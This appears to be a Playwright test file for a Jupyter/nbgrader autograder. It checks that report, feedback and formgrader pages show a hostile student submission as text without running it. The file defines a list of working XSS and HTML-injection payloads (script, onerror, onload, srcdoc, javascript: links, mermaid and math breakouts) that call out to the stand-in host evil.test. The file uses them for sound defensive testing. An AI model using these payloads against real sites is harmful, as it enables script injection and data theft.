"""In a real browser: the report, feedback and formgrader of hostile work, and JupyterLab."""

import re
import shutil
from collections.abc import Iterator
from pathlib import Path

import nbformat
import pytest
from classes import made_answers, made_rows
from lab import Server, jupyterlab
from nbgrader.api import Gradebook

from autograder.course import ROOT, problem_set
from autograder.demo import fill_in
from autograder.grade import grade
from autograder.gradebook import nbgrader_api
from autograder.report import read_stubs, report_page

sync_api = pytest.importorskip("playwright.sync_api", reason="playwright is not installed")
CHROMIUM = shutil.which("chromium") or shutil.which("google-chrome")
pytestmark = pytest.mark.skipif(
    CHROMIUM is None, reason="Chromium is missing: apt install chromium"
)
PS = problem_set("ps1")
PATIENCE = 60_000  # ms
RUN = "window.hacked=1;document.title='hacked';fetch('http://evil.test/run')"
LIVE = (  # each of these runs when a page takes it as HTML
    f"<script>{RUN}</script>",
    f'<img src=x onerror="{RUN}">',
    f'<svg onload="{RUN}"></svg>',
    f'<iframe srcdoc="<script>parent.eval(&quot;{RUN}&quot;)</script>"></iframe>',
    f'<details open ontoggle="{RUN}">x</details>',
)
QUIET = (  # and these send something or change the page
    '<img src="http://evil.test/seen.png">',
    "![seen](http://evil.test/markdown.png)",
    '<link rel="stylesheet" href="http://evil.test/style.css">',
    '<meta http-equiv="refresh" content="0;url=http://evil.test/away">',
    "<style>body { background: url(http://evil.test/ground.png) }</style>",
    f"[click](javascript:{RUN})",
    f"```mermaid\n</pre><script>{RUN}</script>\n```",
    f"$$</script><script>{RUN}</script>$$",
)
HOSTILE = "\n\n".join((*LIVE, *QUIET))


@pytest.fixture(scope="module")
def browser() -> Iterator:
    with sync_api.sync_playwright() as playwright:
        quiet = ["--disable-background-networking", "--disable-component-update", "--disable-sync"]
        arguments = ["--no-sandbox", "--disable-gpu", *quiet]
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=arguments)
        yield browser
        browser.close()


@pytest.fixture
def page(browser) -> Iterator:
    """A page that reaches this machine alone and remembers what else was asked for."""
    context = browser.new_context()
    page = context.new_page()
    page.set_default_timeout(PATIENCE)
    page.sent, page.errors = [], []

    def away(route) -> None:
        page.sent.append(route.request.url)
        route.abort()

    context.route(re.compile(r"^https?://(?!(localhost|127\.0\.0\.1)[:/])"), away)
    page.on("pageerror", lambda error: page.errors.append(str(error)))
    yield page
    context.close()


@pytest.fixture(scope="module")
def course(tmp_path_factory) -> Path:
    """A course in which a hostile submission is graded."""
    root = tmp_path_factory.mktemp("course")
    answers = {"why_rescale": f"My answer.\n\n{HOSTILE}"}
    made = fill_in(nbformat.read(PS.release, as_version=4), answers)
    made.cells.insert(1, nbformat.v4.new_markdown_cell(HOSTILE))
    html = {"text/html": HOSTILE, "image/svg+xml": LIVE[2], "application/javascript": RUN}
    for cell in made.cells:
        if cell.cell_type == "code":
            cell.outputs = [
                nbformat.v4.new_output("display_data", html),
                nbformat.v4.new_output("stream", text=HOSTILE),
            ]
    path = root / "submitted" / "eve" / "ps1" / PS.release.name
    path.parent.mkdir(parents=True)
    nbformat.write(made, path)
    assert [done.error for done in grade(PS, root)] == [""]
    (root / "nbgrader_config.py").symlink_to(ROOT / "nbgrader_config.py")
    return root


def feedback(root: Path) -> str:
    assert nbgrader_api(root).generate_feedback("ps1", "eve")["success"]
    return (root / "feedback" / "eve" / "ps1" / f"{PS.notebook}.html").as_uri()


def assert_nothing_ran(page) -> None:
    page.wait_for_timeout(300)
    assert page.evaluate("window.hacked") is None
    assert "hacked" not in page.title()
    assert [url for url in page.sent if "evil.test" in url] == []


@pytest.mark.parametrize("payload", LIVE, ids=["script", "img", "svg", "iframe", "details"])
def test_the_payloads_do_run_where_nobody_cleans_them(page, payload):
    page.set_content(f"<title>safe</title><body>{payload}</body>")
    page.wait_for_function("window.hacked === 1")


def test_the_report_sorts_filters_and_searches(page, tmp_path):
    rows = made_rows(40)
    file = tmp_path / "ps1.html"
    file.write_text(report_page(PS, rows, made_answers(rows), read_stubs(PS)), encoding="utf-8")
    page.goto(file.as_uri())

    def shown() -> list[str]:
        names = page.locator("#class tbody tr:visible td:first-child a:first-child")
        return names.all_text_contents()

    totals = {row.student: row.submission.total for row in rows}
    assert shown() == sorted(totals)
    page.get_by_role("button", name="points", exact=True).click()
    assert [totals[s] for s in shown()] == sorted(totals.values(), reverse=True)
    page.keyboard.press("Enter")  # the button has the focus
    assert [totals[s] for s in shown()] == sorted(totals.values())
    heads = page.locator("#class th[aria-sort]")
    assert heads.count() == 1
    assert heads.get_attribute("aria-sort") == "ascending"
    page.get_by_role("button", name="train_linear").click()
    worth = {row.student: row.submission.grades for row in rows}
    column = [g.exercise for g in rows[0].submission.grades].index("train_linear")
    sorted_by = [worth[s][column].points for s in shown()]
    assert sorted_by == sorted(sorted_by, reverse=True)

    page.get_by_label("student", exact=True).fill("STUDENT007")
    assert shown() == ["student007"]
    assert page.locator("#shown").text_content() == "1 of 40 shown"
    page.get_by_role("button", name="Show all").click()
    stopped = {r.student for r in rows if "timeout" in [x["reason"] for x in r.results.values()]}
    page.get_by_label("outcome").select_option("timeout")
    assert set(shown()) == stopped
    page.get_by_label("in exercise").select_option("relu_moments")
    fitting = {r.student for r in rows if r.results["relu_moments"]["reason"] == "timeout"}
    assert set(shown()) == fitting
    page.get_by_role("button", name="Show all").click()
    page.get_by_label("outcome").select_option("for a person to look at")
    assert stopped <= set(shown()) < set(totals)
    assert page.errors == []
    assert page.sent == []


def test_the_report_fits_a_phone_and_the_dark(page, tmp_path):
    rows = made_rows(40)
    file = tmp_path / "ps1.html"
    file.write_text(report_page(PS, rows, {}, {}), encoding="utf-8")
    grounds = []
    for scheme in ("light", "dark"):
        page.emulate_media(color_scheme=scheme)
        page.goto(file.as_uri())
        for width in (320, 360, 1280):
            page.set_viewport_size({"width": width, "height": 800})
            assert page.evaluate("document.documentElement.scrollWidth") <= width
        grounds.append(ground(page))
    assert len(set(grounds)) == 2
    page.get_by_role("button", name="Light or dark").click()
    assert ground(page) == grounds[0]
    page.reload()
    assert ground(page) == grounds[0], "the choice is kept"


def ground(page) -> str:
    return page.evaluate("getComputedStyle(document.body).backgroundColor")


def test_hostile_work_runs_nothing_in_feedback_and_formgrader(page, course):
    """A TA grades a written answer on the way and finds points and comment in the feedback."""
    page.set_viewport_size({"width": 360, "height": 800})
    page.goto(feedback(course))
    assert page.get_by_text("<script>window.hacked").count() > 3, "it is there as text"
    assert page.locator("script, iframe, svg, form, [onerror], [onload]").count() == 0
    assert page.evaluate("document.documentElement.scrollWidth") <= 360
    assert_nothing_ran(page)
    assert page.sent == []

    api = nbgrader_api(course)
    with Gradebook(api.coursedir.db_url, api.coursedir.course_id) as book:
        number = book.find_submission_notebook(PS.notebook, "ps1", "eve").id
    with jupyterlab(course, course) as server:
        page.goto(server.address("lab"), wait_until="commit")  # which sets the cookie
        page.goto(server.address(f"formgrader/submissions/{number}/"))
        page.get_by_text("My answer.").wait_for()
        assert page.get_by_text("<script>window.hacked").count() > 1
        assert_nothing_ran(page)
        page.wait_for_function("formgrader.grades && formgrader.grades.loaded")
        page.wait_for_function("formgrader.comments && formgrader.comments.loaded")
        for field, said in (("#why_rescale", "2.5"), ("#why_rescale-comment", "Nearly: *why*?")):
            with page.expect_response(lambda r: r.request.method == "PUT") as saved:
                page.locator(field).fill(said)
                page.locator(field).blur()
            assert saved.value.ok
        assert_nothing_ran(page)
        theirs = [url for url in page.sent if not re.search(r"//[^/]+/ajax/libs/mathjax/", url)]
        assert theirs == [], "formgrader itself asks for MathJax"
    page.goto(feedback(course))
    assert page.locator("#why_rescale").get_by_text("2.5 of 3").count() == 1
    assert page.locator("#why_rescale em").text_content() == "why"


def test_a_student_runs_the_release_and_presses_validate(page, tmp_path, monkeypatch):
    """Failed tests do not keep the last cell from saying what is open."""
    monkeypatch.setenv("COURSE_SCALE", "smoke")
    shutil.copytree(ROOT / "release", tmp_path / "work")
    with jupyterlab(tmp_path / "work", tmp_path) as server:
        open_release(page, server)
        page.get_by_role("menuitem", name="Run", exact=True).click()
        page.get_by_role("menuitem", name="Run All Cells", exact=True).click()
        page.get_by_text("Still open: 22 exercises, 100 points.").wait_for()
        page.get_by_role("button", name="Validate").click()
        said = page.locator(".jp-Dialog-content")
        said.get_by_text("dropout_forward is not answered yet").first.wait_for()


def open_release(page, server: Server) -> None:
    page.set_viewport_size({"width": 1280, "height": 900})
    page.goto(server.address("lab/tree/ps1/dropout.ipynb"))
    page.locator(".jp-Notebook .jp-CodeCell").first.wait_for()
    page.get_by_text("(ipykernel) | Idle").wait_for()  # before, a run is lost without a word
